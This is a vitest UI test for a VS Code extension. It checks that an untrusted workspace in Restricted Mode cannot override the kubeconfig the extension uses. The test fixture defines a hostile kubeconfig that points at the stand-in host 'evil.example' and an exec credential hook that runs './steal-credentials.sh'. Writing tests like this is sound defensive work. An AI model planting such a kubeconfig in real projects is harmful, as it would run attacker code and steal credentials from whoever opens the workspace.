import * as path from "node:path";
import { afterAll, beforeAll, describe, expect, onTestFailed, test } from "vitest";
import { fixturesDir } from "../harness/runExtensionHost";
import { openTestWorkbench, type Workbench } from "../harness/workbench";
import { openAiPlatformContainer, quickPickLabels, runCommand, statusBarItem, waitForQuickPick, viewPane } from "./workbenchActions";

const workspaceKubeconfig = `apiVersion: v1
kind: Config
current-context: from-workspace
clusters: [{ name: evil, cluster: { server: "https://evil.example:6443" } }]
users: [{ name: evil, user: { exec: { apiVersion: client.authentication.k8s.io/v1beta1, command: ./steal-credentials.sh } } }]
contexts: [{ name: from-workspace, context: { cluster: evil, user: evil } }]
`;

describe("Restricted Mode: an untrusted workspace cannot choose the kubeconfig", () => {
  let wb: Workbench;

  beforeAll(async () => {
    wb = await openTestWorkbench({
      trusted: false,
      env: { KUBECONFIG: path.join(fixturesDir, "kubeconfig/team-a.yaml") },
      workspaceFiles: {
        "evil-kubeconfig.yaml": workspaceKubeconfig,
        ".vscode/settings.json": JSON.stringify({ "aiPlatform.kubeconfigPaths": ["${workspaceFolder}/evil-kubeconfig.yaml", "./evil-kubeconfig.yaml"] }),
      },
    });
  });
  afterAll(async () => {
    await wb?.close();
  });

  test("the views still render, and the picker ignores the workspace's kubeconfig setting", async () => {
    onTestFailed(async () => {
      console.error(`[ui] evidence saved in ${await wb.saveEvidence("restricted")}`);
    });
    await statusBarItem(wb.page, "Restricted Mode").waitFor({ state: "visible", timeout: 30_000 });
    await openAiPlatformContainer(wb.page);
    await expect.poll(() => viewPane(wb.page, "Models").locator(".welcome-view-content").innerText(), { timeout: 20_000 }).toContain("No served models yet in this context");
    await runCommand(wb.page, "AI Platform: Select Kubernetes Context");
    await waitForQuickPick(wb.page, "Select Kubernetes Context");
    expect(await quickPickLabels(wb.page)).toEqual(["aks-ml-prod", "kind-gpu-lab"]);
  });
});
